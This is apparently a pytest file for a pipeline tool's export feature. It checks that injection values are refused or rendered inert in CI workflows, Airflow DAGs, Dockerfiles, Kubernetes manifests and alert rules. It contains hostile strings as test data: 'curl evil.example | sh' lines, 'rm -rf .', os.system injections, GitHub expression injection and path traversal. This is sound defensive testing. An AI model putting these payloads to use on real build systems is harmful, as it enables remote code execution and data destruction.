"""Hostile configs against every export target: each value that could add a line, an option or
code to a generated file is refused at composition naming its key (and again when params.yaml
is edited by hand), or comes out inert, a literal of its target's own syntax. Nothing outside
the project is created or removed; exports.yaml cannot point outside it; a re-export removes
only files it wrote and that are unchanged. Also: stage names, file modes and write faults."""

from __future__ import annotations

import ast
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import yaml

from helpers import copy_template_project, run_cli
from pipespec.core import atomic
from pipespec.core.errors import ConfigError, OutputError, PipelineError
from pipespec.engine import export
from pipespec.engine.generate import generate, write
from pipespec.engine.pipeline import load_pipeline
from pipespec.engine.project import Project

Tool = Callable[[str], str]
# Every export target, as `pipespec export --help` lists them.
TARGETS = ("github-actions", "gitlab-ci", "airflow", "docker", "kubernetes", "alerts")
PAYLOAD = "$(touch PWNED) `touch PWNED` $HOME ' \" \n; rm -rf . #"
EXPRESSION = "${{ github.event.pull_request.title }}"  # only a hand-edited params.yaml holds it


@pytest.fixture(scope="module")
def composed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The template project with params.yaml and dvc.yaml composed once for this module."""
    root = copy_template_project(tmp_path_factory.mktemp("composed") / "proj")
    write(Project(root), generate(Project(root)))
    # the Airflow export's tasks share artifacts through a committed DVC remote: a default one,
    # and the one the hostile-value tests name as data
    (root / ".dvc").mkdir(exist_ok=True)
    (root / ".dvc" / "config").write_text(
        "[core]\n    remote = store\n"
        "['remote \"store\"']\n    url = /tmp/store\n"
        "['remote \"store.v2+x\"']\n    url = /tmp/store-v2\n",
        encoding="utf-8",
    )
    return root


def _nested(tmp_path: Path, composed: Path) -> Path:
    """A copy of ``composed`` three folders below ``tmp_path``: a ``../../..`` escape from
    it still lands inside ``tmp_path``, where ``_outside`` sees it."""
    root = tmp_path / "a" / "b" / "proj"
    shutil.copytree(composed, root)
    (tmp_path / "a" / "keep.txt").write_text("a file beside the project\n")
    return root


@pytest.fixture
def nested(tmp_path: Path, composed: Path) -> Path:
    return _nested(tmp_path, composed)


def _outside(tmp_path: Path, root: Path) -> dict[str, bytes | None]:
    """Every path under ``tmp_path`` but the project's, with a file's bytes."""
    found: dict[str, bytes | None] = {}
    for path in sorted(tmp_path.rglob("*")):
        if path == root or root in path.parents:
            continue
        found[path.relative_to(tmp_path).as_posix()] = (
            path.read_bytes() if path.is_file() and not path.is_symlink() else None
        )
    return found


def _configure(root: Path, values: dict[str, Any]) -> tuple[str, ...]:
    """Set ``values`` (dotted keys) in their groups' config files, as a user edits them.

    OmegaConf reads ``${`` as interpolation and no escape lets a node hold ``${{``, so a
    config file cannot carry a GitHub expression at all (composition refuses it); such
    values reach an export only through a hand-edited params.yaml (``_set_in_params``)."""
    for key, value in values.items():
        group, *parts = key.split(".")
        path = root / "configs" / group / "default.yaml"
        doc = yaml.safe_load(path.read_text())
        node = doc
        for part in parts[:-1]:
            node = node.setdefault(part, {})
        node[parts[-1]] = value
        path.write_text(yaml.safe_dump(doc, sort_keys=False))
    return ()


def _file_of(key: str) -> str:
    return f"configs/{key.split('.')[0]}/default.yaml"


def _set_in_params(root: Path, key: str, value: Any) -> None:
    """Edit params.yaml by hand (or as DVC's own composition writes it)."""
    params = yaml.safe_load((root / "params.yaml").read_text())
    node = params
    parts = key.split(".")
    for part in parts[:-1]:
        node = node[part]
    node[parts[-1]] = value
    (root / "params.yaml").write_text(yaml.safe_dump(params, sort_keys=False))


# (target, key, hostile value, what the refusal says about it)
REFUSED = [
    ("github-actions", "ci.install", "pip install ${{ github.event.pull_request.title }}",
     "GitHub expression"),
    ("github-actions", "ci.runner", "ubuntu-latest\n    permissions: write-all", "runner label"),
    ("github-actions", "ci.runner", "${{ github.event.pull_request.head.ref }}", "expression"),
    ("github-actions", "ci.python", "3.11'; curl evil.example | sh; '", "Python version"),
    ("github-actions", "ci.remote", "$(curl evil.example)", "DVC remote"),
    ("github-actions", "ci.remote", "--all-commits", "DVC remote"),
    ("github-actions", "ci.branches", ["main\n  workflow_dispatch:"], "line break"),
    ("gitlab-ci", "ci.image", "python:3.11\nscript: [id]", "image reference"),
    ("gitlab-ci", "ci.install", "pip install ${{ x }}", "GitHub expression"),
    ("airflow", "orchestrator.dag_id", "../../../elsewhere/x", "identifier"),
    ("airflow", "orchestrator.dag_id", "x', schedule=None); import os; os.system('id'); ('",
     "identifier"),
    ("airflow", "orchestrator.dag_id", "-f", "identifier"),
    ("airflow", "orchestrator.env", {"A B": "x"}, "environment variable name"),
    ("airflow", "orchestrator.env", {"$(id)": "x"}, "environment variable name"),
    ("airflow", "orchestrator.remote", "-f", "DVC remote"),
    ("airflow", "orchestrator.remote", "x; rm -rf .", "DVC remote"),
    ("docker", "deploy.python", "3.11-slim\nRUN curl evil.example | sh\nFROM python:3.11",
     "Python version"),
    ("docker", "deploy.python", "3.11-slim AS x", "Python version"),
    ("docker", "deploy.bundle", "../../../elsewhere", "leaves the project"),
    ("docker", "deploy.bundle", "/etc", "absolute path"),
    ("docker", "deploy.bundle", "models/bundle\nRUN id", "characters other than"),
    ("docker", "deploy.bundle", "$(id)", "characters other than"),
    ("docker", "deploy.bundle", "-rf/x", "starting with '-'"),
    ("docker", "deploy.image", 'evil"\nRUN id', "image name"),
    ("docker", "deploy.image", "model:latest", "image name"),
    ("docker", "deploy.version", '1.0"\nRUN id', "image tag"),
    ("docker", "deploy.version", "$HOME", "image tag"),
    ("kubernetes", "deploy.image", "registry.example.com/my_model", "DNS-1123"),
    ("kubernetes", "deploy.version", "-1", "image tag"),
    ("kubernetes", "deploy.resources.cpu_limit", "1\n  privileged: true", "quantity"),
    ("kubernetes", "deploy.port", 70000, "port number"),
    ("kubernetes", "deploy.replicas", -1, ">= 0"),
    ("alerts", "deploy.alerts.window", "10m])) or vector(1) #", "Prometheus duration"),
    ("alerts", "deploy.alerts.hold", "5m\n  labels: {severity: none}", "Prometheus duration"),
    ("docker", "registry.path", "../../elsewhere", "leaves the project"),
]  # fmt: skip


@pytest.mark.parametrize(("target", "key", "value", "says"), REFUSED)
def test_hostile_value_is_refused_naming_its_key(
    tmp_path: Path, composed: Path, target: str, key: str, value: Any, says: str
) -> None:
    root = _nested(tmp_path, composed)
    before = _outside(tmp_path, root)
    overrides = _configure(root, {key: value})
    name = re.escape(f"'{key}") + r"[.' ]"
    where = re.escape(_file_of(key))
    if "${{" in str(value):  # OmegaConf cannot hold it: composition stops at once
        leaf = key.split(".")[-1]
        with pytest.raises(ConfigError, match=rf"'{leaf}' .*token recognition error"):
            generate(Project(root), overrides)
    else:
        with pytest.raises(ConfigError, match=rf"(?s){name}.*in {where}.*{says}"):
            generate(Project(root), overrides)
    # a params.yaml edited by hand (or written by DVC's composition) is refused as well,
    # before the target renders anything, so no bundle is needed to see it
    _set_in_params(root, key, value)
    with pytest.raises(ConfigError, match=rf"(?s){name}.*in params\.yaml.*{says}"):
        export.render(Project(root), target)
    assert _outside(tmp_path, root) == before
    assert not any((root / d).exists() for d in ("dags", "deploy", ".github", "exports.yaml"))


def test_hostile_params_yaml_is_refused_by_the_cli_without_traceback(nested: Path) -> None:
    _set_in_params(nested, "orchestrator.dag_id", "../../../elsewhere/x")
    proc = run_cli("export", "airflow", cwd=nested, check=False)
    assert proc.returncode == 2, proc.stderr
    assert "'orchestrator.dag_id' in params.yaml" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (nested.parent.parent.parent / "elsewhere").exists()
    assert not (nested / "dags").exists()


def _calls(tree: ast.AST) -> list[str]:
    return sorted(ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call))


def _assigned(tree: ast.Module, name: str) -> Any:
    for node in tree.body:
        if isinstance(node, ast.Assign) and ast.unparse(node.targets[0]) == name:
            return node.value
    raise AssertionError(f"no {name} = ... in the DAG")


def test_airflow_dag_holds_hostile_values_as_literals(nested: Path) -> None:
    """Values the DAG carries as data (task environment, pool, schedule, a remote) come out
    as Python literals equal to themselves: the file compiles, it calls exactly what the
    plain DAG calls, and each task's shell line splits into the expected words."""
    project = Project(nested)
    plain = ast.parse(export.render(project, "airflow").files["dags/pipespec.py"])
    env = {"TOKEN": PAYLOAD, "QUOTE": "'''\"\"\"\\", "NL": "a\nb"}
    schedule = "0 0 * * *'); import os; os.system('touch PWNED'); ('"
    overrides = _configure(
        nested,
        {"orchestrator.env": env, "orchestrator.pool": PAYLOAD,
         "orchestrator.schedule": schedule, "orchestrator.remote": "store.v2+x"},
    )  # fmt: skip
    write(project, generate(project, overrides))
    env["GH"] = EXPRESSION
    _set_in_params(nested, "orchestrator.env", env)
    text = export.render(project, "airflow").files["dags/pipespec.py"]
    tree = ast.parse(compile(text, "dags/pipespec.py", "exec", ast.PyCF_ONLY_AST))
    assert _calls(tree) == _calls(plain)
    assert ast.literal_eval(_assigned(tree, "ENV")) == env
    default_args = ast.literal_eval(
        ast.Dict(
            keys=[k for k in _assigned(tree, "DEFAULT_ARGS").keys if k is not None],
            values=[
                v if not isinstance(v, ast.Call) else ast.Constant(None)
                for v in _assigned(tree, "DEFAULT_ARGS").values
            ],
        )
    )
    assert default_args["pool"] == PAYLOAD
    dag = next(
        n for n in ast.walk(tree) if isinstance(n, ast.Call) and ast.unparse(n.func) == "DAG"
    )
    kwargs = {k.arg: k.value for k in dag.keywords}
    assert ast.literal_eval(kwargs["schedule"]) == schedule
    commands = [
        ast.literal_eval(k.value)
        for n in ast.walk(tree)
        if isinstance(n, ast.Call) and ast.unparse(n.func) == "BashOperator"
        for k in n.keywords
        if k.arg == "bash_command"
    ]
    pipeline = load_pipeline(project, yaml.safe_load((nested / "params.yaml").read_text()))
    assert pipeline.get("train").upstream  # train restores what it reads from the remote
    train_command = next(c for c in commands if "--pull train" in c)
    assert [shlex.split(line) for line in train_command.splitlines()] == [
        ["set", "-euo", "pipefail"],
        ["dvc", "remote", "default", "--local", "store.v2+x"],
        ["dvc", "--wait-for-lock", "repro", "--pull", "train"],
        ["dvc", "--wait-for-lock", "push", "--run-cache"],
        ["pipespec", "push-run-cache"],
    ]
    assert not list(nested.rglob("PWNED"))


def test_ci_workflows_keep_hostile_text_as_yaml_strings(nested: Path, tool: Tool) -> None:
    """``ci.install`` is the project's own shell command, by design; quotes, ``$(...)`` and
    newlines in it (and in branch patterns) stay YAML strings equal to themselves, the
    workflow still passes its schema, and zizmor finds no template injection."""
    install = "pip install \"pipespec[serve]\" && echo '$(not run here)' `x`\npip check"
    branches = ["release/*", "it's-main", "a:b"]
    project = Project(nested)
    write(project, generate(project, _configure(nested, {"ci.install": install,
                                                          "ci.branches": branches})))  # fmt: skip
    for target in ("github-actions", "gitlab-ci"):
        export.write(project, export.render(project, target))
    workflow = nested / ".github/workflows/pipespec.yml"
    doc = yaml.safe_load(workflow.read_text())
    steps = doc["jobs"]["pipeline"]["steps"]
    assert next(s["run"] for s in steps if s.get("name") == "Install the project") == install
    assert doc["on"]["pull_request"]["branches"] == branches
    gitlab = yaml.safe_load((nested / ".gitlab-ci.yml").read_text())
    assert gitlab["pipespec"]["script"][0] == install
    for path, schema in ((workflow, "vendor.github-workflows"), (nested / ".gitlab-ci.yml",
                                                                 "vendor.gitlab-ci")):  # fmt: skip
        proc = subprocess.run([tool("check-jsonschema"), "--builtin-schema", schema, str(path)],
                              capture_output=True, text=True, check=False)  # fmt: skip
        assert proc.returncode == 0, proc.stdout + proc.stderr
    audit = subprocess.run([tool("zizmor"), "--offline", str(workflow)], capture_output=True,
                           text=True, check=False)  # fmt: skip
    assert audit.returncode == 0, audit.stdout + audit.stderr
    assert "No findings" in audit.stdout, audit.stdout


def test_kubernetes_takes_every_legal_value_and_validates_strictly(nested: Path) -> None:
    import kubernetes_validate

    project = Project(nested)
    overrides = _configure(
        nested,
        {"deploy.image": "registry.example.com:5000/team/churn-model",
         "deploy.version": "1.4.0-rc.1", "deploy.resources.memory_limit": "1.5Gi",
         "deploy.replicas": 0},
    )  # fmt: skip
    write(project, generate(project, overrides))
    text = export.render(project, "kubernetes").files["deploy/kubernetes/pipespec.yaml"]
    docs = list(yaml.safe_load_all(text))
    for doc in docs:
        kubernetes_validate.validate(doc, "1.33", strict=True)
        assert doc["metadata"]["name"] == "churn-model"
    container = docs[0]["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == "registry.example.com:5000/team/churn-model:1.4.0-rc.1"


@pytest.mark.slow
def test_dockerfile_and_alerts_with_unusual_legal_values_pass_their_tools(
    bundled_project: Path, tool: Tool
) -> None:
    root = bundled_project
    project = Project(root)
    overrides = _configure(
        root,
        {"deploy.image": "registry.example.com:5000/team/churn-model",
         "deploy.version": "1.4.0-rc.1", "deploy.python": "3.11.9",
         "deploy.bundle": "models/bundle/",
         "deploy.alerts.window": "1h30m", "deploy.alerts.hold": "90s"},
    )  # fmt: skip
    (root / "params.yaml").write_text(generate(project, overrides).params_text)
    for target in ("docker", "alerts"):
        export.write(project, export.render(project, target))
    dockerfile = root / "deploy/docker/Dockerfile"
    lint = subprocess.run([tool("hadolint"), str(dockerfile)], capture_output=True, text=True,
                          check=False)  # fmt: skip
    assert lint.returncode == 0, lint.stdout + lint.stderr
    text = dockerfile.read_text()
    assert "\nFROM python:3.11.9-slim\n" in text
    assert 'org.opencontainers.image.version="1.4.0-rc.1"' in text
    assert "\nCOPY --chown=10001:10001 models/bundle/ /app/bundle/\n" in text
    cmd = next(line for line in text.splitlines() if line.startswith("CMD "))
    assert json.loads(cmd[4:])[:2] == ["pipespec", "serve"]
    rules = root / "deploy/prometheus/pipespec-alerts.yml"
    check = subprocess.run([tool("promtool"), "check", "rules", str(rules)], capture_output=True,
                           text=True, check=False)  # fmt: skip
    assert check.returncode == 0, check.stdout + check.stderr
    assert "[1h30m]" in rules.read_text()


@pytest.mark.slow
def test_real_airflow_reads_hostile_values_as_data(
    nested: Path, airflow_venv: Path, tmp_path: Path
) -> None:
    """Airflow 3 imports the DAG with hostile task environment, pool and remote: the tasks
    carry them unchanged, and importing runs none of them (no PWNED file)."""
    project = Project(nested)
    env = {"TOKEN": PAYLOAD}
    overrides = _configure(nested, {"orchestrator.env": env, "orchestrator.pool": PAYLOAD})
    write(project, generate(project, overrides))
    export.write(project, export.render(project, "airflow"))
    script = (
        "import json, sys\n"
        "from airflow.models.dagbag import DagBag\n"
        "bag = DagBag(dag_folder=sys.argv[1])\n"
        "dag = bag.dags['pipespec']\n"
        "print(json.dumps({'errors': {k: str(v) for k, v in bag.import_errors.items()},\n"
        "  'tasks': {t.task_id: [t.env, t.pool, t.bash_command] for t in dag.tasks}}))\n"
    )
    run_env = {**os.environ, "AIRFLOW_HOME": str(tmp_path / "home"),
               "AIRFLOW__CORE__LOAD_EXAMPLES": "False"}  # fmt: skip
    proc = subprocess.run([str(airflow_venv / "bin/python"), "-c", script, str(nested / "dags")],
                          cwd=tmp_path, env=run_env, capture_output=True, text=True,
                          check=False)  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-4000:]
    found = json.loads(proc.stdout.strip().splitlines()[-1])
    assert found["errors"] == {}
    assert found["tasks"]["train"][:2] == [env, PAYLOAD]
    assert "dvc --wait-for-lock repro --pull train" in found["tasks"]["train"][2].splitlines()
    assert not list(tmp_path.rglob("PWNED"))


# --- stage names ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["-f", "--help", "Train", "a-b", "$(id)", "x y", "1st", "a.b"])
def test_stage_names_that_a_command_could_misread_are_refused(nested: Path, name: str) -> None:
    (nested / "pipelines/extra.yaml").write_text(
        yaml.safe_dump({"stages": {name: {"kind": "load"}}})
    )
    where = re.escape(f"'stages.{name}' in pipelines/extra.yaml")
    with pytest.raises(PipelineError, match=rf"{where}: .* is not a stage name"):
        load_pipeline(Project(nested))


def test_a_dash_stage_name_stops_compose_before_dvc_yaml_changes(nested: Path) -> None:
    before = (nested / "dvc.yaml").read_text()
    (nested / "pipelines/extra.yaml").write_text("stages:\n  '-f':\n    kind: load\n")
    proc = run_cli("compose", cwd=nested, check=False)
    assert proc.returncode == 2, proc.stderr
    assert "'stages.-f' in pipelines/extra.yaml" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert (nested / "dvc.yaml").read_text() == before


def test_pipeline_file_names_become_task_ids_only_when_they_are_words(nested: Path) -> None:
    (nested / "pipelines/x $(id).yaml").write_text("stages: {}\n")
    with pytest.raises(PipelineError, match=r"pipelines/x \$\(id\)\.yaml: a pipelines/ file name"):
        load_pipeline(Project(nested))


# --- confinement: exports.yaml and the files an export removes --------------------------------


def _record(root: Path, files: Any) -> None:
    (root / "exports.yaml").write_text(
        yaml.safe_dump({"targets": {"airflow": {"options": {}, "files": files}}})
    )


@pytest.mark.parametrize(
    ("entry", "says"),
    [("../../keep.txt", "leaves the project"), ("{outside}", "leaves the project"),
     ("dags/link.py", "resolves outside the project")],
)  # fmt: skip
def test_exports_yaml_entries_outside_the_project_are_refused(
    tmp_path: Path, composed: Path, entry: str, says: str
) -> None:
    root = _nested(tmp_path, composed)
    outside = tmp_path / "a" / "keep.txt"
    (root / "dags").mkdir()
    (root / "dags/link.py").symlink_to(outside)
    entry = entry.format(outside=outside)
    _record(root, [entry])
    before = _outside(tmp_path, root)
    proc = run_cli("export", "airflow", cwd=root, check=False)
    assert proc.returncode == 2, proc.stderr
    assert f"'exports.yaml' entry targets.airflow.files: '{entry}' {says}" in proc.stderr
    assert "Traceback" not in proc.stderr
    check = run_cli("export", "--check", cwd=root, check=False)
    assert check.returncode == 2
    assert "targets.airflow.files" in check.stderr
    assert _outside(tmp_path, root) == before
    assert outside.read_text() == "a file beside the project\n"


def test_an_export_folder_linked_outside_the_project_is_refused(
    tmp_path: Path, composed: Path
) -> None:
    root = _nested(tmp_path, composed)
    elsewhere = tmp_path / "a" / "elsewhere"
    elsewhere.mkdir()
    (root / "dags").symlink_to(elsewhere)
    before = _outside(tmp_path, root)
    with pytest.raises(ConfigError, match=r"airflow export file: 'dags/pipespec\.py' resolves "
                       r"outside the project"):  # fmt: skip
        export.write(Project(root), export.render(Project(root), "airflow"))
    assert _outside(tmp_path, root) == before
    assert not list(elsewhere.iterdir())


def test_a_bundle_linked_outside_the_project_is_refused(tmp_path: Path, composed: Path) -> None:
    root = _nested(tmp_path, composed)
    elsewhere = tmp_path / "a" / "bundle"
    elsewhere.mkdir()
    (elsewhere / "manifest.json").write_text("{}")
    (root / "models").mkdir()
    (root / "models/bundle").symlink_to(elsewhere)
    with pytest.raises(ConfigError, match=r"deploy\.bundle: 'models/bundle' resolves outside"):
        export.render(Project(root), "docker")


def test_re_export_removes_only_unchanged_files_it_wrote(nested: Path) -> None:
    project = Project(nested)
    export.write(project, export.render(project, "airflow"))
    record = yaml.safe_load((nested / "exports.yaml").read_text())["targets"]["airflow"]
    text = (nested / "dags/pipespec.py").read_text()
    assert record["files"] == {"dags/pipespec.py": export.sha256(text.encode())}
    # renamed DAG: the unchanged old file goes
    write(project, generate(project, ("orchestrator.dag_id=first",)))
    assert export.write(project, export.render(project, "airflow")) == [
        "dags/first.py", "dags/pipespec.py (removed)"
    ]  # fmt: skip
    assert not (nested / "dags/pipespec.py").exists()
    # edited by hand after the export: kept and reported, never deleted
    (nested / "dags/first.py").write_text((nested / "dags/first.py").read_text() + "# my change\n")
    write(project, generate(project, ("orchestrator.dag_id=second",)))
    changed = export.write(project, export.render(project, "airflow"))
    assert changed == [
        "dags/second.py",
        "dags/first.py (kept: changed since pipespec exported it; remove it by hand)",
    ]
    assert (nested / "dags/first.py").read_text().endswith("# my change\n")
    assert list(yaml.safe_load((nested / "exports.yaml").read_text())["targets"]["airflow"]
                ["files"]) == ["dags/second.py"]  # fmt: skip


def test_a_foreign_file_is_never_overwritten(nested: Path) -> None:
    (nested / "dags").mkdir()
    (nested / "dags/pipespec.py").write_text("# my own DAG\n")
    proc = run_cli("export", "airflow", cwd=nested, check=False)
    assert proc.returncode == 2, proc.stderr
    assert "dags/pipespec.py exists and was not written by `pipespec export airflow`" in (
        proc.stderr
    )
    assert (nested / "dags/pipespec.py").read_text() == "# my own DAG\n"
    assert not (nested / "exports.yaml").exists()


def test_an_old_record_without_hashes_removes_nothing(nested: Path) -> None:
    (nested / "dags").mkdir()
    (nested / "dags/old.py").write_text("# exported long ago, or not\n")
    _record(nested, ["dags/old.py"])
    changed = export.write(Project(nested), export.render(Project(nested), "airflow"))
    assert "dags/old.py (kept: changed since pipespec exported it; remove it by hand)" in changed
    assert (nested / "dags/old.py").exists()


# --- file modes -------------------------------------------------------------------------------


@contextmanager
def _umask(mask: int) -> Iterator[None]:
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_files_are_written_with_the_umask_mode(tmp_path: Path) -> None:
    """As a plain open() would: 0644 under umask 022, 0640 under 027 (not the 0600 of a
    temp file), for params.yaml, dvc.yaml, exports.yaml and an exported file."""
    files = ("params.yaml", "dvc.yaml", "exports.yaml", "deploy/kubernetes/pipespec.yaml")
    for mask, mode in ((0o022, 0o644), (0o027, 0o640)):
        root = copy_template_project(tmp_path / oct(mask))
        proc = subprocess.run(
            [sys.executable, "-c", "import os, sys; os.umask(int(sys.argv[1], 8)); "
             "from pipespec.cli.main import main; sys.exit(main(['compose']) or "
             "main(['export', 'kubernetes']))", oct(mask)[2:]],
            cwd=root, capture_output=True, text=True, check=False,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr
        assert {n: oct(_mode(root / n)) for n in files} == dict.fromkeys(files, oct(mode))
    with _umask(0o022):
        atomic.write_json(tmp_path / "out/x.json", {"a": 1})
    assert _mode(tmp_path / "out/x.json") == 0o644
    assert _mode(tmp_path / "out") == 0o755


# --- write faults -----------------------------------------------------------------------------


@contextmanager
def _immutable(path: Path) -> Iterator[None]:
    """``chattr +i``: not even root can write, rename onto or delete it."""
    subprocess.run(["chattr", "+i", str(path)], check=True)
    try:
        yield
    finally:
        subprocess.run(["chattr", "-i", str(path)], check=True)


def _temps(root: Path) -> list[Path]:
    return [p for p in root.rglob("*.tmp")]


def test_an_immutable_params_yaml_is_a_named_error(nested: Path) -> None:
    before = (nested / "params.yaml").read_bytes()
    with _immutable(nested / "params.yaml"):
        proc = run_cli("compose", "model.num_leaves=7", cwd=nested, check=False)
    assert proc.returncode == OutputError.exit_code == 11, proc.stderr
    assert "cannot write params.yaml: Operation not permitted" in proc.stderr
    assert "chattr -i" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert _temps(nested) == []
    assert (nested / "params.yaml").read_bytes() == before


def test_an_immutable_export_folder_is_a_named_error(nested: Path) -> None:
    run_cli("export", "airflow", cwd=nested)
    run_cli("compose", "orchestrator.retries=3", cwd=nested)
    with _immutable(nested / "dags"):
        proc = run_cli("export", "airflow", cwd=nested, check=False)
    assert proc.returncode == 11, proc.stderr
    assert "cannot write dags/pipespec.py" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert _temps(nested) == []


def test_a_file_where_an_output_folder_must_be_is_a_named_error(nested: Path) -> None:
    (nested / "data").mkdir()
    (nested / "data/load").write_text("not a folder\n")
    proc = run_cli("stage", "load", cwd=nested, check=False)
    assert proc.returncode == 11, proc.stderr
    assert "cannot create the folder data/load: data/load is a file, not a folder" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert (nested / "data/load").read_text() == "not a folder\n"


def test_a_folder_where_a_file_must_be_is_a_named_error(tmp_path: Path) -> None:
    (tmp_path / "out.json").mkdir()
    with pytest.raises(OutputError, match=r"cannot write .*out\.json: Is a directory"):
        atomic.write_json(tmp_path / "out.json", {})
    assert _temps(tmp_path) == []
    with (  # noqa: PT012
        pytest.raises(OutputError, match=r"cannot write .*x\.json: Is a directory"),
        atomic.atomic_path(tmp_path / "x.json") as tmp,
    ):
        tmp.write_text("{}")
        (tmp_path / "x.json").mkdir()  # something else put a folder there meanwhile
    assert _temps(tmp_path) == []
